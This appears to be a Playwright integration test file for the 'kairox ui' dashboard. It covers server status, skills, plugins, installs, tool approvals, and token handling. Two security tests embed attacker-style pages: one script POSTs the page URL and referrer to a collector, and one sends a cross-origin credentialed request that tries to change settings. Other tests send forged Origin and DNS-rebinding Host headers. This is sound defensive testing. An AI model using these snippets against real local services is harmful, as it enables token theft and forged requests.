"""The dashboard in a real browser: ``kairox ui`` as a process, chromium driven by Playwright.

Each test drives the page the way a user would and checks the effect where the rest of
kairox sees it (the CLI, the settings files, the runtime's servers).
"""

from __future__ import annotations

import http.server
import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import peers
import pytest
from shared_helpers import serve_http
from ui_helpers import (
    ECHO_DESCRIPTION,
    NEVER_HERE,
    PY,
    UiSetup,
    echo_entry,
    html_site,
    open_page,
    render_skill,
    screenshot,
    write_skill,
)

pytestmark = pytest.mark.integration


def pill(page: Any, name: str, state: str) -> Any:
    return page.locator(f'[data-server="{name}"][data-state="{state}"]')


def switch_off(page: Any, selector: str) -> None:
    """Click the toggle of the item ``selector.format("true")`` and wait until the page
    shows it as ``selector.format("false")`` (the server answered)."""
    item = page.locator(selector.format("true"))
    item.wait_for()
    item.locator('[data-action="toggle"]').click()
    page.locator(selector.format("false")).wait_for()


def test_a_pill_goes_from_starting_to_ready_without_a_reload(ui: UiSetup, page: Any) -> None:
    ui.mcp_server("slow", "slow_start", "--delay", "4", "--name", "slow")
    ui.trust()
    server = ui.start()
    open_page(page, server)
    page.evaluate("window.__kept = 'same document'")
    pill(page, "slow", "starting").wait_for()
    pill(page, "slow", "ready").wait_for(timeout=60_000)
    assert page.evaluate("window.__kept") == "same document"  # updated live, not reloaded
    assert "2 tools" in page.locator('[data-server="slow"]').inner_text()


def test_a_failed_pill_opens_its_diagnostic_with_the_stderr_tail(ui: UiSetup, page: Any) -> None:
    ui.mcp_server("crash", "crash_on_start")
    ui.mcp_server("echo", "well_behaved", "--name", "echo")
    ui.trust()
    server = ui.start()
    open_page(page, server)
    failed = pill(page, "crash", "failed")
    failed.wait_for(timeout=60_000)
    pill(page, "echo", "ready").wait_for(timeout=60_000)
    diagnostic = failed.locator("details.diagnostic")
    assert not diagnostic.evaluate("d => d.open")
    failed.locator(".pill").click()
    assert diagnostic.evaluate("d => d.open")
    text = diagnostic.inner_text()
    assert "crash_on_start: fatal: cannot open /nonexistent/config.toml" in text
    assert "exit code: 3" in text
    screenshot(page, "status")


def test_restart_and_stop_go_through_the_runtime(ui: UiSetup, page: Any) -> None:
    ui.mcp_server("echo", "well_behaved", "--name", "echo")
    ui.trust()
    server = ui.start()
    open_page(page, server)
    pill(page, "echo", "ready").wait_for(timeout=60_000)
    page.locator('[data-server="echo"] [data-action="stop"]').click()
    pill(page, "echo", "stopped").wait_for()
    page.locator('[data-server="echo"] [data-action="restart"]').click()
    pill(page, "echo", "ready").wait_for(timeout=60_000)
    states = [s["state"] for s in server.json("/api/status")["servers"] if s["name"] == "echo"]
    assert states == ["ready"]


def test_a_skill_toggled_in_the_page_is_disabled_for_the_cli(ui: UiSetup, page: Any) -> None:
    write_skill(ui, "hello")
    write_skill(ui, "other", "Another skill")
    server = ui.start()
    open_page(page, server, "/skills")
    switch_off(page, '[data-skill="hello"][data-enabled="{}"]')
    listed = ui.cli("skills", "list", "--json")
    assert listed.returncode == 0, listed.stderr
    skills = {s["name"]: s for s in json.loads(listed.stdout)["skills"]}
    assert skills["hello"]["enabled"] is False and skills["hello"]["enabled_by"] == "workspace"
    assert skills["other"]["enabled"] is True
    settings = json.loads((ui.workspace / ".kairox" / "settings.json").read_text())
    assert settings == {"skills": {"enabled": {"hello": False}}}
    # the body and the arguments form render the skill
    assert render_skill(page, page.locator('[data-skill="other"]'), "other", "who", "Ada") == "Say hello to Ada."
    screenshot(page, "skills")


@pytest.fixture
def catalog_document(ui: UiSetup) -> Path:
    echo = echo_entry(
        title="Echo",
        description=ECHO_DESCRIPTION,
        tags=["echo", "test"],
        requirements=[{"runtime": "python", "version": ">=3.10"}],
    )
    document = {"entries": [echo, NEVER_HERE]}
    # the temporary directory is not writable without asking, so an install into this home asks
    path = ui.catalog(document, config="[policy]\ninclude_temp_dir = false\n\n")
    return path


def test_an_install_from_a_local_catalog_shows_its_progress_and_asks_in_the_page(
    ui: UiSetup, page: Any, catalog_document: Path
) -> None:
    server = ui.start()
    open_page(page, server, "/marketplace")
    page.locator('[data-entry="echo-server"]').wait_for()
    page.locator('input[name="q"]').fill("nothing-matches-this")
    page.locator('[data-entry="echo-server"]').wait_for(state="detached")
    page.locator('input[name="q"]').fill("echo")
    page.locator('[data-entry="echo-server"]').click()
    page.locator('.checks [data-requirement="python >=3.10"][data-ok="true"]').wait_for()
    page.locator('select[name="scope"]').select_option("user")  # outside the workspace: the policy asks
    page.locator('[data-action="install"]').click()
    approval = page.locator("[data-approval]")
    approval.wait_for()
    assert "fs.write" in approval.inner_text() or "write" in approval.inner_text()
    approval.locator('[data-answer="allow_once"]').click()
    outcome = page.locator('.outcome[data-outcome="ok"]')
    outcome.wait_for(timeout=90_000)
    assert "it starts and offers" in outcome.inner_text()
    steps = page.locator("ol.steps li[data-step]")
    titles = [steps.nth(i).get_attribute("data-step") for i in range(steps.count())]
    assert titles[0] == "Checking requirements" and titles[-1].startswith("Starting echo-server once to verify")
    assert all(steps.nth(i).get_attribute("data-state") == "done" for i in range(steps.count()))
    assert page.locator('[data-message="info"]', has_text="wrote [mcp_servers.echo-server]").count() == 1
    config = (ui.home / "kairox.toml").read_text()
    assert "[mcp_servers.echo-server]" in config
    screenshot(page, "marketplace")
    # an entry whose requirement is not met says so before anything is written
    page.locator('input[name="q"]').fill("never")
    page.locator('[data-entry="never-here"]').click()
    page.locator('.checks[data-met="false"] [data-ok="false"]').wait_for()


def test_an_install_the_user_denies_writes_nothing(ui: UiSetup, page: Any, catalog_document: Path) -> None:
    server = ui.start()
    open_page(page, server, "/marketplace")
    page.locator('[data-entry="echo-server"]').click()
    page.locator('select[name="scope"]').select_option("user")
    page.locator('[data-action="install"]').click()
    page.locator("[data-approval]").locator('[data-answer="deny"]').click()
    outcome = page.locator('.outcome[data-outcome="failed"]')
    outcome.wait_for()
    assert "declined" in outcome.inner_text()
    assert "echo-server" not in (ui.home / "kairox.toml").read_text()


def test_an_untrusted_workspace_is_trusted_from_the_page(ui: UiSetup, page: Any) -> None:
    ui.mcp_server("echo", "well_behaved", "--name", "echo")
    server = ui.start()
    open_page(page, server)
    pill(page, "echo", "untrusted").wait_for()
    box = page.locator("section.trust")
    assert "well_behaved.py" in box.inner_text()  # what would run, shown before trusting
    # the page's own way, not a command to type ("run `kairox trust PATH`", its detail said)
    assert "kairox trust" not in page.locator("main").inner_text()
    assert "Trust this workspace, above" in page.locator('[data-server="echo"] .detail').inner_text()
    box.locator('[data-action="trust-workspace"]').click()
    pill(page, "echo", "ready").wait_for(timeout=60_000)
    assert page.locator("section.trust").count() == 0
    trusted = ui.cli("trust", "--list", "--json")
    assert str(ui.workspace) in trusted.stdout


def test_plugins_are_switched_per_contribution_and_trusted_from_the_page(ui: UiSetup, page: Any) -> None:
    shutil.copytree(
        peers.REPO / "tests" / "fixtures" / "plugins" / "codex" / "release-notes", ui.home / "plugins" / "release-notes"
    )
    server = ui.start()
    open_page(page, server, "/plugins")
    switch_off(page, '[data-plugin="release-notes"] [data-contribution="skill/changelog"][data-enabled="{}"]')
    inspected = json.loads(ui.cli("plugin", "inspect", "release-notes", "--json").stdout)
    states = {i["name"]: i["enabled"] for i in inspected["inventory"]}
    assert states == {"changelog": False, "notes": True}
    settings = json.loads((ui.home / "plugin-settings.json").read_text())
    assert settings["plugins"]["release-notes"]["contributions"] == {"skill/changelog": False}
    screenshot(page, "plugins")


def test_a_tool_is_called_from_its_schema_form_through_the_policy(ui: UiSetup, page: Any) -> None:
    ui.write("notes.txt", "hello from the workspace\n")
    server = ui.start()
    open_page(page, server, "/tools")
    page.locator('[data-tool="fs.read"] a').click()
    page.locator('.tool-detail input[name="path"]').fill("notes.txt")
    page.locator('.tool-detail [data-action="call"]').click()
    result = page.locator('pre.result[data-outcome="ok"]')
    result.wait_for()
    assert "hello from the workspace" in result.inner_text()
    screenshot(page, "tools")


def test_the_trace_streams_events_filterable_by_kind_and_server(ui: UiSetup, page: Any) -> None:
    ui.mcp_server("echo", "well_behaved", "--name", "echo")
    ui.trust()
    server = ui.start()
    open_page(page, server, "/events")
    page.locator('tr[data-kind="McpServerReady"][data-server="echo"]').wait_for(timeout=60_000)
    page.locator('select[name="kind"]').select_option("McpServerReady")
    visible = page.locator("table.trace tbody tr:not([hidden])")
    assert {visible.nth(i).get_attribute("data-kind") for i in range(visible.count())} == {"McpServerReady"}
    page.locator('select[name="kind"]').select_option("")
    page.locator('input[name="server"]').fill("echo")
    servers = {visible.nth(i).get_attribute("data-server") for i in range(visible.count())}
    assert servers and all("echo" in s for s in servers)
    screenshot(page, "trace")
    # a new event arrives live
    ui.write("notes.txt", "hi\n")
    status, text = server.request(
        "/api/tools/call", method="POST", body={"name": "fs.read", "arguments": {"path": "notes.txt"}}
    )
    assert status == 200, text
    page.locator('input[name="server"]').fill("fs.read")
    page.locator('tr[data-kind="ToolCallFinished"][data-server="fs.read"]:not([hidden])').wait_for()


def test_without_the_token_the_api_is_403_and_the_page_says_what_to_open(ui: UiSetup, page: Any) -> None:
    server = ui.start()
    for path in ("/api/status", "/api/stream", "/api/skills"):
        status, body = server.request(path, token=False)
        assert status == 403, (path, body)
    status, _ = server.request("/?token=wrong", token=False)
    assert status == 403
    response = page.goto(server.base + "/")  # the shell, but no token: a clear message, no data
    assert response.status == 200
    message = page.locator("[data-no-token]")
    message.wait_for()
    assert "kairox ui" in message.inner_text() and page.locator("#conn").get_attribute("data-connected") == "false"
    page.goto(server.url)  # the printed URL works (only its fragment changes: the page reloads itself)
    page.wait_for_selector('#conn[data-connected="true"]')
    assert "token" not in page.url and page.url == server.base + "/"  # out of the address bar
    assert page.evaluate("sessionStorage.getItem('kairox-ui-token')") == server.token
    page.locator("nav a[data-nav='skills']").click()  # the same tab keeps it
    page.wait_for_url(server.base + "/skills")
    page.wait_for_selector('#conn[data-connected="true"]')
    assert page.context.cookies() == []
    other = page.context.new_page()  # another tab has nothing: the message again
    other.goto(server.base + "/")
    other.locator("[data-no-token]").wait_for()
    other.close()
    page.goto(f"{server.base}/skills?token={server.token}")  # a legacy link still works
    page.wait_for_selector('#conn[data-connected="true"]')
    assert page.url == server.base + "/skills" and page.context.cookies() == []


class _Collector(http.server.BaseHTTPRequestHandler):
    """Another local server (any listener on 127.0.0.1): keeps every request it receives."""

    received: list[str] = []

    def _keep(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length).decode("latin-1") if length else ""
        self.received.append(f"{self.requestline}\n{self.headers}\n{body}")

    def do_GET(self) -> None:
        self._keep()
        page = b"""<!doctype html><script>
        fetch("/collect", {method: "POST", credentials: "include", body: document.referrer + " " + location.href})
          .finally(() => { document.title = "collected"; });
        </script>"""
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def do_POST(self) -> None:
        self._keep()
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


def test_another_local_server_the_browser_visits_receives_no_token(ui: UiSetup, page: Any) -> None:
    """The dashboard's token reaches no other local server. The attack: a cookie for
    127.0.0.1 goes to every server on 127.0.0.1 whatever its port, so any local listener
    the user visits would collect the dashboard's token."""
    ui.write(".kairox/skills/hello.md", "---\nname: hello\ndescription: hi\nscope: workspace\n---\nHello.\n")
    server = ui.start()
    _Collector.received = []
    with serve_http(_Collector) as port:
        open_page(page, server, "/skills")
        page.locator('[data-skill="hello"]').wait_for()
        elsewhere = f"http://127.0.0.1:{port}/page"
        page.evaluate(f"location.href = {json.dumps(elsewhere)}")  # a navigation from the dashboard itself
        page.wait_for_function("document.title === 'collected'")
        page.goto(elsewhere + "?again")  # and a visit of its own
        page.wait_for_function("document.title === 'collected'")
    received = _Collector.received
    lines = [r.split("\n", 1)[0] for r in received if "/favicon.ico" not in r.split("\n", 1)[0]]
    assert [line.split(" ")[:2] for line in lines] == [
        ["GET", "/page"],
        ["POST", "/collect"],
        ["GET", "/page?again"],
        ["POST", "/collect"],
    ], received
    everything = "\n".join(received)
    assert server.token not in everything
    assert "cookie" not in everything.lower() and "kairox_ui" not in everything
    assert "token" not in everything.lower()
    # what the collector would have done with a token: nothing without one
    status, _ = server.request(
        "/api/tools/call", method="POST", body={"name": "fs.read", "arguments": {"path": "x"}}, token=False
    )
    assert status == 403


class _EvilSite:
    """Another origin's page that POSTs to ``target`` with the browser's credentials."""

    def __init__(self) -> None:
        self.url = ""
        self.target = ""

    def page(self) -> str:
        return f"""<!doctype html><script>
        fetch({json.dumps(self.target)}, {{method: "POST", credentials: "include", mode: "no-cors",
          headers: {{"content-type": "text/plain"}}, body: JSON.stringify({{scope: "workspace", enabled: false}})}})
          .finally(() => {{ document.title = "sent"; }});
        </script>"""


@pytest.fixture
def evil_site() -> Iterator[_EvilSite]:
    site = _EvilSite()
    with html_site(site.page) as port:
        site.url = f"http://localhost:{port}/"
        yield site


def test_a_cross_origin_request_is_refused(ui: UiSetup, page: Any, evil_site: _EvilSite) -> None:
    write_skill(ui, "hello")
    server = ui.start()
    open_page(page, server, "/skills")  # the tab holds the dashboard's token
    evil_site.target = server.base + "/api/skills/hello/enabled"
    evil_url = evil_site.url
    page.goto(evil_url)
    page.wait_for_function("document.title === 'sent'")
    # with the token itself: another Origin, no Origin, a rebinding Host: refused all the same
    body = {"scope": "workspace", "enabled": False}
    for headers in (
        {"Origin": evil_url.rstrip("/")},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site"},
    ):
        status, text = server.request("/api/skills/hello/enabled", method="POST", body=body, headers=headers)
        assert status == 403, (headers, text)
    port = server.base.rsplit(":", 1)[1]
    status, _ = server.request("/api/status", headers={"Host": f"rebind.example:{port}"})
    assert status == 403
    skills = server.json("/api/skills")["skills"]
    assert [(s["name"], s["enabled"]) for s in skills] == [("hello", True)]
    assert not (ui.workspace / ".kairox" / "settings.json").exists()
    _ = PY


def test_a_workspace_bundle_is_trusted_from_the_page(ui: UiSetup, page: Any) -> None:
    root = ui.workspace / ".kairox" / "plugins" / "greeter"
    ui.write(
        ".kairox/plugins/greeter/.kairox-plugin/plugin.json", json.dumps({"name": "greeter", "skills": "./skills"})
    )
    ui.write(
        ".kairox/plugins/greeter/skills/greet/SKILL.md",
        "---\nname: greet\ndescription: Greets the user\n---\nHello!\n",
    )
    server = ui.start()
    open_page(page, server, "/plugins")
    page.locator('[data-plugin="greeter"][data-state="untrusted"]').wait_for()
    page.locator('[data-plugin="greeter"] [data-action="trust-plugin"]').click()
    page.locator('[data-plugin="greeter"]:not([data-state="untrusted"])').wait_for()
    listed = json.loads(ui.cli("plugin", "list", "--json").stdout)["plugins"]
    assert [(p["name"], p["state"] != "untrusted") for p in listed] == [("greeter", True)]
    assert root.is_dir()
    page.goto(server.base + "/skills")
    page.locator('[data-skill="greeter:greet"]').wait_for()


def test_a_tool_the_policy_asks_about_is_asked_in_the_page(ui: UiSetup, page: Any) -> None:
    marker = ui.workspace / "ran.txt"
    server = ui.start()
    open_page(page, server, "/tools")
    page.locator('[data-tool="shell.exec"][data-decision="ask"] a').click()
    page.locator('.tool-detail input[name="command"]').fill(f"echo ran > {marker}")
    page.locator('.tool-detail [data-action="call"]').click()
    question = page.locator("[data-approval]")
    question.wait_for()
    assert "shell.exec" in question.inner_text() and str(marker) in question.inner_text()
    question.locator('[data-answer="deny"]').click()
    result = page.locator('pre.result[data-outcome="denied"]')
    result.wait_for()
    assert "declined" in result.inner_text()
    assert not marker.exists()  # the command never ran
    # marked as the trace marks a denial, not shown like a result
    assert "inset" in result.evaluate("(el) => getComputedStyle(el).boxShadow")
    page.locator('.tool-detail [data-action="call"]').click()
    page.locator("[data-approval]").locator('[data-answer="allow_once"]').click()
    page.locator('pre.result[data-outcome="ok"]').wait_for()
    assert marker.read_text().strip() == "ran"
    # "for the session": remembered in the dashboard's session, so the next call is not asked
    page.locator('.tool-detail input[name="command"]').fill(f"echo again >> {marker}")
    page.locator('.tool-detail [data-action="call"]').click()
    page.locator("[data-approval]").locator('[data-answer="allow_session"]').click()
    # (a locator, not wait_for_function: a string predicate is an eval, which the page's CSP refuses)
    page.locator("[data-approval]").wait_for(state="detached")
    for _ in range(300):
        if marker.read_text().split() == ["ran", "again"]:
            break
        page.wait_for_timeout(100)
    assert marker.read_text().split() == ["ran", "again"]
    command = {"command": f"echo third >> {marker}"}
    status, text = server.request("/api/tools/call", method="POST", body={"name": "shell.exec", "arguments": command})
    assert status == 200 and json.loads(text)["ok"], text
    assert marker.read_text().split() == ["ran", "again", "third"]


def test_a_language_server_pill_is_stopped_and_restarted_from_the_page(ui: UiSetup, page: Any) -> None:
    pylsp = shutil.which("pylsp")
    if pylsp is None:
        pytest.skip("pylsp is not installed")
    ui.write("shapes.py", "class Circle:\n    radius = 1.0\n")
    ui.write(
        "kairox.toml",
        # test-sized: pylsp takes about a second to exit once its stdin is closed
        f'[lsp_servers.py]\ncommand = {json.dumps(pylsp)}\nlanguages = ["python"]\nshutdown_timeout = 0.5\n',
    )
    ui.trust()
    server = ui.start()
    open_page(page, server)
    pill(page, "py", "ready").wait_for(timeout=60_000)
    first = next(s for s in server.json("/api/status")["servers"] if s["name"] == "py")
    assert first["kind"] == "lsp" and first["actions"] == ["restart", "stop"]
    page.locator('[data-server="py"] [data-action="stop"]').click()
    pill(page, "py", "stopped").wait_for()
    assert "lsp.hover" not in {t["id"] for t in server.json("/api/tools")["tools"]}
    page.locator('[data-server="py"] [data-action="restart"]').click()  # labelled Start while stopped
    pill(page, "py", "ready").wait_for(timeout=60_000)
    again = next(s for s in server.json("/api/status")["servers"] if s["name"] == "py")
    assert again["state"] == "ready" and again["detail"] != first["detail"]  # a new pid
    assert "lsp.hover" in {t["id"] for t in server.json("/api/tools")["tools"]}


BROKEN_PLUGIN = "raise RuntimeError('kairox-broken-example cannot find its settings')\n"
SESSION_PLUGIN = """
from kairox import hookimpl
from kairox.ext import SkillArgument, SkillDef


@hookimpl
def kairox_session_start(session):
    what = SkillArgument("what", required=True)
    session.add_skill(SkillDef.create("scratchpad", "Notes this session keeps", "Remember {{what}}.", arguments=(what,)))
"""


def plugin_site(ui: UiSetup) -> Path:
    """Two installed plugin packages on the dashboard's PYTHONPATH: one whose import fails,
    one that adds a session skill to every session."""
    site = ui.home.parent / "site"
    for dist, module, source in (
        ("kairox-broken-example", "kairox_broken_example", BROKEN_PLUGIN),
        ("kairox-session-example", "kairox_session_example", SESSION_PLUGIN),
    ):
        info = site / f"{module}-1.0.dist-info"
        info.mkdir(parents=True)
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {dist}\nVersion: 1.0\n")
        (info / "entry_points.txt").write_text(f"[kairox]\n{module} = {module}\n")
        (site / f"{module}.py").write_text(source)
    ui.env["PYTHONPATH"] = str(site)
    return site


def test_a_plugin_package_that_fails_to_load_is_a_problem_on_the_status_page(ui: UiSetup, page: Any) -> None:
    plugin_site(ui)
    server = ui.start()
    open_page(page, server)
    failure = page.locator('section.problems [data-failure="kairox_broken_example"]')
    failure.wait_for()
    text = failure.inner_text()
    assert "kairox-broken-example 1.0" in text and "cannot find its settings" in text
    # the other package loaded: it is not a problem
    assert page.locator('section.problems [data-failure="kairox_session_example"]').count() == 0
    packages = {p["distribution"] for p in server.json("/api/plugins")["packages"]}
    assert "kairox-session-example" in packages and "kairox-broken-example" not in packages


def test_skills_show_the_session_scope_and_user_only_skills(ui: UiSetup, page: Any) -> None:
    plugin_site(ui)
    write_skill(ui, "hello")
    ui.write(
        ".kairox/skills/release.md",
        "---\nname: release\ndescription: Cut a release (run it yourself)\nscope: workspace\n"
        "disable-model-invocation: true\n---\nTag and publish.\n",
    )
    server = ui.start()
    open_page(page, server, "/skills")
    # the skill the dashboard's session got from the plugin's session_start hook
    session_row = page.locator('section[data-scope="session"] [data-skill="scratchpad"]')
    session_row.wait_for()
    assert "Notes this session keeps" in session_row.inner_text()
    # a user-only skill is listed, marked
    user_only = page.locator('section[data-scope="workspace"] [data-skill="release"][data-user-only="true"]')
    user_only.wait_for()
    assert "user only" in user_only.inner_text()
    assert page.locator('[data-skill="hello"][data-user-only="false"] .user-only').count() == 0
    # and rendered in the session
    assert render_skill(page, session_row, "scratchpad", "what", "the deadline") == "Remember the deadline."
    # the CLI (no session) knows nothing of it; the user-only one it lists too
    listed = {s["name"] for s in json.loads(ui.cli("skills", "list", "--json").stdout)["skills"]}
    assert "scratchpad" not in listed and "release" in listed
    # a session skill added in the page shadows the workspace skill of its name
    form = page.locator("form.session-skill")
    form.locator('input[name="name"]').fill("hello")
    form.locator('input[name="description"]').fill("Greets, this session's way")
    form.locator('textarea[name="body"]').fill("Wave.")
    form.locator('[data-action="add-session-skill"]').click()
    added = page.locator('section[data-scope="session"] [data-skill="hello"]')
    added.wait_for()
    assert "shadows workspace" in added.inner_text()
    assert page.locator('section[data-scope="workspace"] [data-skill="hello"]').count() == 0
    status, text = server.request("/api/skills/hello/render", method="POST", body={"arguments": {}})
    assert status == 200 and json.loads(text)["text"].strip() == "Wave.", text
    assert not (ui.workspace / ".kairox" / "skills" / "hello.md").read_text().startswith("Wave")  # no file touched
    # removed, the workspace skill is back
    added.locator('[data-action="remove"]').click()
    page.locator('section[data-scope="workspace"] [data-skill="hello"]').wait_for()
    assert page.locator('section[data-scope="session"] [data-skill="hello"]').count() == 0


def test_a_failed_language_server_pill_shows_its_stderr_lines_and_exit_code(ui: UiSetup, page: Any) -> None:
    script = ui.write(
        "bad_lsp.py", "import sys\nsys.stderr.write('lsp-boom: no config here\\nsecond line\\n')\nsys.exit(4)\n"
    )
    ui.write(
        "kairox.toml",
        f'[lsp_servers.bad]\ncommand = {json.dumps(PY)}\nargs = [{json.dumps(str(script))}]\nlanguages = ["python"]\n',
    )
    ui.trust()
    server = ui.start()
    open_page(page, server)
    failed = pill(page, "bad", "failed")
    failed.wait_for(timeout=60_000)
    failed.locator(".pill").click()
    diagnostic = failed.locator("details.diagnostic")
    assert diagnostic.evaluate("d => d.open")
    assert diagnostic.locator("pre.stderr").inner_text().splitlines() == ["lsp-boom: no config here", "second line"]
    assert "exit code: 4" in diagnostic.inner_text()
    assert failed.locator('[data-action="restart"]').count() == 1
    failed.locator('[data-action="restart"]').click()  # it starts again, and fails the same way
    for _ in range(300):
        events = server.json("/api/events")["events"]
        if len([e for e in events if e["kind"] == "LspServerFailed" and e["server"] == "bad"]) == 2:
            break
        page.wait_for_timeout(100)
    kinds = [e["kind"] for e in server.json("/api/events")["events"] if e["server"] == "bad"]
    assert kinds.count("LspServerStarting") == 2 and kinds.count("LspServerFailed") == 2, kinds
    pill(page, "bad", "failed").wait_for()
